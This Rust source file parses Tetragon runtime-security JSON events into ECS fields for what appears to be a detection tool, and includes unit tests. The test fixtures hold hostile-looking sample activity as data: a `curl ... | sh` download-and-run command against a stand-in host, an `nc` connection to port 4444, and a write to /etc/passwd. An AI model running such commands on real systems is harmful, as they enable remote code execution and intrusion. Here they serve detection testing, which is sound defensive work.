//! Tetragon's JSON export (`tetragon`): one event a line, as `tetragon` writes it to its
//! export file (`/var/run/cilium/tetragon/tetragon.log`) and `tetra getevents -o json` prints
//! it: `{"process_exec": {...}, "node_name": "...", "time": "..."}`.
//!
//! | Tetragon | our field |
//! |---|---|
//! | `process_exec` / `process_exit` | `event.category: process`, `event.type: start` / `end` |
//! | `process_kprobe`, `process_tracepoint`, `process_lsm`, `process_uprobe` | by hook: `tcp_connect`-like hooks → `network`/`connection` (`sock_arg` / `sockaddr_arg` → `source.*`, `destination.*`); hooks with a `file_arg`/`path_arg` → `file`/`access` or `change` (`security_file_permission`'s mask 2, or a write/truncate/unlink/rename hook, is a change) with `file.path`; other hooks no category |
//! | `process_connect` (older releases) | `network`/`connection` from `source_ip`, `destination_ip`, ... |
//! | `process.binary`, `process.arguments` | `process.executable`; `process.args` = binary + the arguments (split where Tetragon quoted them), `process.command_line` their join |
//! | `process.pid`, `process.cwd`, `process.uid`, `process.user.name` | `process.pid`, `process.working_directory`, `user.id`, `user.name` |
//! | `parent.*` | `process.parent.*` |
//! | `process.pod.{namespace,name}`, `process.pod.container.{id,name,image.name}` (else `process.docker`) | `kubernetes.*`, `container.*` |
//! | `node_name`, `time` | `host.name`, `@timestamp` |
//! | event type, hook (`function_name`, `event`), `policy_name`, `action`, hook `args` and `return`, `exec_id`s, `flags`, exit `status`/`signal`, pod labels | `event.action` (the hook, else the event type) and `tetragon.*` |
//!
//! Detected by a top-level `process_*` object holding a `process` object.

use crowsnest_model::{ecs, format_timestamp, parse_timestamp, Event};
use serde_json::{json, Map, Value};

use crate::error::FieldError;
use crate::registry::{Context, Parser, Record};
use crate::sensor::{int, split_args, text, Kind, Proc, Seen};
use crate::{finish, Decoded, LineError};

/// The Tetragon parser.
#[derive(Debug)]
pub struct Tetragon;

impl Parser for Tetragon {
    fn name(&self) -> &'static str {
        "tetragon"
    }

    fn detect(&self, object: &Map<String, Value>) -> bool {
        event_of(object).is_some()
    }

    fn parse(&self, record: Record<'_>, cx: &Context<'_>, out: &mut Decoded) {
        let Record::Json { text, object } = record else {
            let reason = "expected a Tetragon JSON event (`process_exec`, `process_kprobe`, ...)";
            return out.errors.push(LineError::new(cx.line, reason));
        };
        match map(&object) {
            Ok(event) => out.events.push(finish(event, text, cx.limits)),
            Err(error) => out.errors.push(error.at(cx.line)),
        }
    }
}

/// The record's event: its type (`process_exec`) and body.
fn event_of(object: &Map<String, Value>) -> Option<(&str, &Map<String, Value>)> {
    object.iter().find_map(|(key, value)| {
        let body = value.as_object()?;
        (key.starts_with("process_") && body.get("process").is_some_and(Value::is_object))
            .then_some((key.as_str(), body))
    })
}

fn string(object: &Map<String, Value>, key: &str) -> Option<String> {
    text(object.get(key))
}

/// A Tetragon process object.
fn process(object: &Map<String, Value>) -> Proc {
    let binary = string(object, "binary");
    let args = binary.as_ref().map(|binary| {
        let mut args = vec![binary.clone()];
        if let Some(arguments) = object.get("arguments").and_then(Value::as_str) {
            args.extend(split_args(arguments));
        }
        args
    });
    Proc {
        executable: binary,
        name: None,
        command_line: None,
        args,
        pid: int(object.get("pid")),
        working_directory: string(object, "cwd"),
    }
}

fn map(object: &Map<String, Value>) -> Result<Event, FieldError> {
    let (kind_name, body) = event_of(object).ok_or_else(|| {
        FieldError::field(
            "process_exec",
            "expected a `process_*` event object with a `process` object",
        )
    })?;
    let proc_obj = body
        .get("process")
        .and_then(Value::as_object)
        .ok_or_else(|| FieldError::field(format!("{kind_name}.process"), "expected an object"))?;
    let mut event = Event::new();
    if let Some(time) = object.get("time") {
        match parse_timestamp(time) {
            Some(time) => event.set(ecs::TIMESTAMP, Value::String(format_timestamp(time))),
            None => return Err(FieldError::field("time", "expected an RFC 3339 `time`")),
        }
    }
    event.set(ecs::EVENT_MODULE, json!("tetragon"));
    event.set(ecs::EVENT_DATASET, json!("tetragon.events"));
    let pod = proc_obj.get("pod").and_then(Value::as_object);
    let container = pod
        .and_then(|p| p.get("container"))
        .and_then(Value::as_object);
    let user_name = proc_obj
        .get("user")
        .and_then(|u| u.get("name"))
        .and_then(Value::as_str)
        .map(str::to_string);
    let mut seen = Seen {
        process: process(proc_obj),
        parent: body
            .get("parent")
            .and_then(Value::as_object)
            .map(process)
            .unwrap_or_default(),
        user_id: string(proc_obj, "uid"),
        user_name,
        container_id: container
            .and_then(|c| string(c, "id"))
            .or_else(|| string(proc_obj, "docker")),
        container_name: container.and_then(|c| string(c, "name")),
        image: container
            .and_then(|c| c.get("image"))
            .and_then(|i| i.get("name"))
            .and_then(Value::as_str)
            .map(str::to_string),
        namespace: pod.and_then(|p| string(p, "namespace")),
        pod_name: pod.and_then(|p| string(p, "name")),
        host: string(object, "node_name"),
        ..Seen::default()
    };
    let hook = body
        .get("function_name")
        .or_else(|| body.get("event"))
        .and_then(Value::as_str);
    let hook_args: &[Value] = body
        .get("args")
        .and_then(Value::as_array)
        .map_or(&[], Vec::as_slice);
    let kind = match kind_name {
        "process_exec" => Kind::Exec,
        "process_exit" => Kind::Exit,
        "process_connect" => {
            seen.source_ip = string(body, "source_ip");
            seen.source_port = int(body.get("source_port"));
            seen.destination_ip = string(body, "destination_ip");
            seen.destination_port = int(body.get("destination_port"));
            seen.transport = string(body, "protocol").map(|p| p.to_ascii_lowercase());
            Kind::Connect
        }
        _ => hook_kind(hook.unwrap_or(""), hook_args, &mut seen),
    };
    let action = hook.unwrap_or(kind_name);
    seen.apply(&mut event, kind, Some(action));
    let mut raw = Map::new();
    raw.insert("type".into(), json!(kind_name));
    for key in ["exec_id", "parent_exec_id", "flags", "auid", "start_time"] {
        if let Some(value) = proc_obj.get(key) {
            raw.insert(key.into(), value.clone());
        }
    }
    if let Some(labels) = pod.and_then(|p| p.get("pod_labels")) {
        raw.insert("pod_labels".into(), labels.clone());
    }
    for key in ["workload", "workload_kind"] {
        if let Some(value) = pod.and_then(|p| p.get(key)) {
            raw.insert(key.into(), value.clone());
        }
    }
    for (key, value) in body {
        if !matches!(key.as_str(), "process" | "parent" | "ancestors") {
            raw.insert(key.clone(), value.clone());
        }
    }
    event.set("tetragon", Value::Object(raw));
    Ok(event)
}

/// What a hook event is about, from the hook's name and arguments.
fn hook_kind(hook: &str, args: &[Value], seen: &mut Seen) -> Kind {
    let arg = |name: &str| {
        args.iter()
            .find_map(|a| a.get(name))
            .and_then(Value::as_object)
    };
    let lower = hook.to_ascii_lowercase();
    if let Some(sock) = arg("sock_arg") {
        if lower.contains("connect") || lower.contains("sendmsg") || lower.contains("accept") {
            seen.source_ip = string(sock, "saddr");
            seen.source_port = int(sock.get("sport"));
            seen.destination_ip = string(sock, "daddr");
            seen.destination_port = int(sock.get("dport"));
            seen.transport = string(sock, "protocol")
                .map(|p| p.trim_start_matches("IPPROTO_").to_ascii_lowercase());
            return Kind::Connect;
        }
    }
    if let Some(addr) = arg("sockaddr_arg") {
        if lower.contains("connect") {
            seen.destination_ip = string(addr, "addr");
            seen.destination_port = int(addr.get("port"));
            return Kind::Connect;
        }
    }
    let file = arg("file_arg")
        .or_else(|| arg("path_arg"))
        .and_then(|f| string(f, "path"))
        .or_else(|| {
            // Syscall hooks on paths (`sys_openat`, `do_sys_open`) pass the name as a string.
            (lower.contains("open") || lower.contains("unlink") || lower.contains("rename"))
                .then(|| {
                    args.iter()
                        .filter_map(|a| a.get("string_arg").and_then(Value::as_str))
                        .find(|s| s.starts_with('/'))
                        .map(str::to_string)
                })
                .flatten()
        });
    let Some(path) = file else {
        return Kind::Other;
    };
    // Tetragon writes a file_arg's path relative to the root in some releases
    // (`usr/share/...`); ours is absolute.
    seen.file_path = Some(if path.starts_with('/') {
        path
    } else {
        format!("/{path}")
    });
    let mask = args
        .iter()
        .find_map(|a| a.get("int_arg"))
        .and_then(Value::as_i64);
    let changes = [
        "write", "truncate", "unlink", "rename", "chmod", "chown", "mkdir", "rmdir", "link",
        "create",
    ]
    .iter()
    .any(|w| lower.contains(w))
        || (lower == "security_file_permission" && mask.is_some_and(|m| m & 2 != 0));
    Kind::file(changes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::registry::detect;

    use crate::registry::decode_detected as decode;

    #[test]
    fn an_exec_maps_process_parent_and_pod() {
        let line = r#"{"process_exec":{"process":{"pid":7,"uid":0,"cwd":"/","binary":"/bin/sh","arguments":"-c \"curl -s http://x/a.sh | sh\"","pod":{"namespace":"prod","name":"web","container":{"id":"containerd://abc","name":"app","image":{"name":"docker.io/library/nginx:1.25"}}}},"parent":{"pid":1,"binary":"/usr/bin/python3","arguments":"app.py"}},"node_name":"node-1","time":"2024-05-01T10:00:00.123456789Z"}"#;
        let object: Map<String, Value> = serde_json::from_str(line).expect("JSON");
        assert_eq!(detect(&object).name(), "tetragon");
        let decoded = decode(line);
        assert!(decoded.errors.is_empty(), "{:?}", decoded.errors);
        let event = &decoded.events[0];
        assert_eq!(event.get("event.category"), Some(&json!(["process"])));
        assert_eq!(event.get_str("event.action"), Some("process_exec"));
        assert_eq!(
            event.get_str("process.command_line"),
            Some("/bin/sh -c curl -s http://x/a.sh | sh")
        );
        assert_eq!(
            event.get("process.args"),
            Some(&json!(["/bin/sh", "-c", "curl -s http://x/a.sh | sh"]))
        );
        assert_eq!(
            event.get_str("process.parent.executable"),
            Some("/usr/bin/python3")
        );
        assert_eq!(
            event.get_str("process.parent.command_line"),
            Some("/usr/bin/python3 app.py")
        );
        assert_eq!(event.get_str("container.id"), Some("abc"));
        assert_eq!(event.get_str("container.image.tag"), Some("1.25"));
        assert_eq!(event.get_str("kubernetes.namespace"), Some("prod"));
        assert_eq!(event.get_str("host.name"), Some("node-1"));
        assert_eq!(event.get_str("user.id"), Some("0"));
    }

    #[test]
    fn hooks_become_file_and_network_events() {
        let write = decode(
            r#"{"process_kprobe":{"process":{"pid":7,"binary":"/bin/vi"},"function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/passwd"}},{"int_arg":2}]},"time":"2024-05-01T10:00:00Z"}"#,
        );
        let event = &write.events[0];
        assert_eq!(event.get("event.category"), Some(&json!(["file"])));
        assert_eq!(event.get("event.type"), Some(&json!(["change"])));
        assert_eq!(event.get_str("file.path"), Some("/etc/passwd"));
        let connect = decode(
            r#"{"process_kprobe":{"process":{"pid":7,"binary":"/usr/bin/nc"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","protocol":"IPPROTO_TCP","saddr":"10.0.0.2","daddr":"1.2.3.4","sport":40000,"dport":4444}}]}}"#,
        );
        let event = &connect.events[0];
        assert_eq!(event.get("event.category"), Some(&json!(["network"])));
        assert_eq!(event.get_str("destination.ip"), Some("1.2.3.4"));
        assert_eq!(event.get("destination.port"), Some(&json!(4444)));
        assert_eq!(event.get_str("network.transport"), Some("tcp"));
        let bad = decode(r#"{"process_exec":{"process":{}},"time":"soon"}"#);
        assert_eq!(bad.errors[0].field.as_deref(), Some("time"));
    }
}
